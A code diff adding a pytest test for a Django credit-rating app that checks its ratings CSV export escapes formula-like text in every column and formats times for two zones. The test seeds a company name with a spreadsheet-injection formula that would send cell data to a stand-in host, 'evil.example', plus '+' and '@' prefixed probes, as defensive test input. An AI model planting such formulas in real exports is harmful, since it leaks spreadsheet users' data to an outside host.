@@ -58,3 +58,36 @@ def test_a_company_name_that_is_a_formula_is_escaped_and_a_negative_score_stays_
     assert cells_xlsx["enterprise_name"].value == "'" + evil.name
     assert cells_xlsx["enterprise_name"].data_type == "s"  # text, never a formula
     assert cells_xlsx["score"].value == -5 and cells_xlsx["score"].data_type == "n"
+
+
+@pytest.mark.parametrize("zone", ["Asia/Shanghai", "UTC"])
+def test_the_ratings_csv_rows_are_the_generic_rows_escaped(world: dict[str, Any], zone: str) -> None:
+    """rating_csv_rows (the ratings CSV's own row builder) gives exactly the cells of the generic rows, escaped:
+    formula texts in every text column, equal and different times in a row, both time zones (`Z` for UTC)."""
+    import datetime as dt
+
+    from django.utils import timezone
+
+    from credit.api.exports import escaped_rows, rating_csv_rows, rating_rows
+    from credit.models import RuleSet
+
+    evil = world["yongding"]
+    evil.name = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    evil.credit_code = "+" + evil.credit_code[1:]
+    evil.save(update_fields=["name", "credit_code"])
+    RuleSet.objects.filter(pk=CreditRating.objects.get(enterprise=evil).rule_set_id).update(version="@v1")
+    ratings = list(CreditRating.objects.order_by("pk"))
+    assert len(ratings) >= 3
+    shared = dt.datetime(2026, 12, 5, 16, 0, 0, 0, tzinfo=dt.UTC)
+    CreditRating.objects.filter(pk__in=[r.pk for r in ratings[:2]]).update(computed_at=shared, status="-x")
+    CreditRating.objects.filter(pk=ratings[-1].pk).update(
+        computed_at=shared + dt.timedelta(microseconds=5), as_of=dt.date(2025, 1, 1), grade=9
+    )
+    queryset = CreditRating.objects.select_related("enterprise", "rule_set").order_by("updated_at", "pk")
+    with timezone.override(zone):
+        fast = [list(row) for row in rating_csv_rows(queryset)]
+        generic = list(escaped_rows(rating_rows(queryset)))
+    assert fast == generic
+    assert any(row[2] == "'" + evil.name and row[1].startswith("'+") and row[7] == "'@v1" for row in fast)
+    assert any(row[4] == "" for row in fast)  # a grade without a label
+    assert all(row[11].endswith("Z" if zone == "UTC" else "+08:00") for row in fast)
